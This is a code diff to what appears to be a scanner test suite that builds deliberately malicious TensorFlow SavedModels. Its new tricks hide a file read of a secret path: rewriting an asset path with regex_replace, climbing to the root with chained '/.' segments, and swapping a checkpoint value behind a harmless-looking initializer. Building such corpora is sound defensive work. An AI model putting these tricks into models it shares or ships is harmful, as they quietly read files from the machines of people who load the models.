@@ -27,7 +27,7 @@ from hublayer.testing._scan_corpus_protos import (
     retarget_tf1_asset,
 )
 
-__all__ = ["build_harmful"]
+__all__ = ["TRICK_NAMES", "build_harmful", "harmful_names", "op_plan"]
 
 SPEC = tf.TensorSpec([None, 4], tf.float32, name="x")
 #: The ops in all three published lists go in every place; the others in two.
@@ -285,8 +285,44 @@ def _tricks(
                 extra={"checkpoint": str(outside / "variables")},
             )
         )
+    built += value_tricks(folder, secret, victims, want)
     built += _scan_corpus_keras.build_keras_tricks(folder, secret, victims, want)
     return built
+
+
+#: The tricks, by name, in build order.
+TRICK_NAMES: tuple[str, ...] = (
+    "ReadFile--tensor_content",
+    "ReadFile--variable_assigned",
+    "ReadFile--variable_checkpoint",
+    "ReadFile--tf1_asset_const",
+    "WriteFile--traced_restore",
+    "WriteFile--api_implements",
+    "TextLineDataset--assets_symlink",
+    "TextLineDataset--asset_hardlink",
+    "RestoreV2--variables_symlink",
+    "ReadFile--asset_regex_replace",
+    "ReadFile--asset_dotdot_split",
+    "ReadFile--tf1_variable_initializer",
+    "WriteFile--keras_member_dot",
+    "WriteFile--keras_safe_mode_false",
+    "WriteFile--keras_outside_handle",
+    "Lambda--keras_lambda",
+)
+
+
+def op_plan() -> list[tuple[str, Payload, str]]:
+    """(name, payload, place) of every op model, in build order."""
+    return [
+        (f"{payload.op}--{place}", payload, place)
+        for index, payload in enumerate(PAYLOADS.values())
+        for place in _places(payload.op, index)
+    ]
+
+
+def harmful_names() -> list[str]:
+    """The names of every harmful model ``build_harmful`` makes (without building)."""
+    return [name for name, _, _ in op_plan()] + list(TRICK_NAMES)
 
 
 def build_harmful(
@@ -299,12 +335,104 @@ def build_harmful(
 
     folder.mkdir(parents=True, exist_ok=True)
     built = []
-    for index, payload in enumerate(PAYLOADS.values()):
-        for place in _places(payload.op, index):
-            name = f"{payload.op}--{place}"
-            if not want(name):
-                continue
-            targets = Targets(str(secret), str(victims / name))
-            op_model(folder / name, payload, place, targets)
-            built.append(_model(name, folder / name, payload, place, targets, secret))
+    for name, payload, place in op_plan():
+        if not want(name):
+            continue
+        targets = Targets(str(secret), str(victims / name))
+        op_model(folder / name, payload, place, targets)
+        built.append(_model(name, folder / name, payload, place, targets, secret))
     return built + _tricks(folder, secret, victims, want)
+
+
+# ------------------------------------------------------- tricks on value proofs
+
+
+def _asset_derived(path: Path, t: Targets, how: str) -> None:
+    """ReadFile of a path *computed from* the model's own asset path.
+
+    ``regex_replace``: the asset path rewritten to the secret's. ``dotdot_split``: the
+    asset (made a folder after saving) joined with ``/.`` and ``.`` constants, none of
+    which holds a ``..`` part, that together climb to ``/``, then the secret's path.
+    """
+    with tempfile.TemporaryDirectory() as scratch:
+        file = Path(scratch) / "vocab.txt"
+        file.write_text("the\n")
+        root = tf.Module()
+        root.w = tf.Variable(tf.ones([4]))
+        root.vocab = tf.saved_model.Asset(str(file))
+
+        def forward(x: tf.Tensor) -> dict[str, tf.Tensor]:
+            asset = root.vocab.asset_path
+            if how == "regex_replace":
+                target = tf.strings.regex_replace(asset, "^.*$", t.secret)
+            else:
+                climb = ["/.", "."] * 64
+                target = tf.strings.join([asset, *climb, t.secret])
+            return {"y": x * root.w, "s": tf.io.read_file(target)}
+
+        _save_module(path, forward, "call", root)
+    if how == "dotdot_split":
+        (path / "assets" / "vocab.txt").unlink()
+        (path / "assets" / "vocab.txt").mkdir()
+
+
+def _tf1_variable_initializer(path: Path, t: Targets) -> None:
+    """A TF1 model whose path variable is *initialized* from its asset (so it looks
+    proven), while its checkpoint holds the secret's path: the loader restores the
+    checkpoint and never runs the initializer."""
+    with tempfile.TemporaryDirectory() as scratch:
+        vocab = Path(scratch) / "vocab.txt"
+        vocab.write_text("the\n")
+        graph = tf.Graph()
+        with graph.as_default():
+            x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
+            asset = tf.constant(str(vocab), name="asset_path")
+            tf.compat.v1.add_to_collection(tf.compat.v1.GraphKeys.ASSET_FILEPATHS, asset)
+            holder = tf.compat.v1.get_variable(
+                "holder", initializer=asset, use_resource=True, trainable=False
+            )
+            signature = tf.compat.v1.saved_model.predict_signature_def(
+                {"x": x}, {"y": tf.identity(x), "s": tf.io.read_file(holder.read_value())}
+            )
+            with tf.compat.v1.Session(graph=graph) as session:
+                session.run(holder.initializer)
+                builder = tf.compat.v1.saved_model.Builder(str(path))
+                builder.add_meta_graph_and_variables(
+                    session,
+                    ["serve"],
+                    signature_def_map={"serving_default": signature},
+                    assets_collection=tf.compat.v1.get_collection(
+                        tf.compat.v1.GraphKeys.ASSET_FILEPATHS
+                    ),
+                )
+                builder.save()
+    prefix = str(path / "variables" / "variables")
+    reader = tf.train.load_checkpoint(prefix)
+    names = sorted(reader.get_variable_to_shape_map())
+    values = [
+        tf.constant(t.secret) if name == "holder" else tf.constant(reader.get_tensor(name))
+        for name in names
+    ]
+    tf.raw_ops.SaveV2(
+        prefix=prefix, tensor_names=names, shape_and_slices=[""] * len(names), tensors=values
+    )
+
+
+def value_tricks(
+    folder: Path, secret: Path, victims: Path, want: Callable[[str], bool]
+) -> list[CorpusModel]:
+    """Paths derived from a proven root, and a variable whose proof is its initializer."""
+    built: list[CorpusModel] = []
+    read = PAYLOADS["ReadFile"]
+    for how in ("regex_replace", "dotdot_split"):
+        name = f"ReadFile--asset_{how}"
+        if want(name):
+            targets = Targets(str(secret), str(victims / name))
+            _asset_derived(folder / name, targets, how)
+            built.append(_model(name, folder / name, read, f"asset_{how}", targets, secret))
+    name = "ReadFile--tf1_variable_initializer"
+    if want(name):
+        targets = Targets(str(secret), str(victims / name))
+        _tf1_variable_initializer(folder / name, targets)
+        built.append(_model(name, folder / name, read, "tf1_variable_initializer", targets, secret))
+    return built
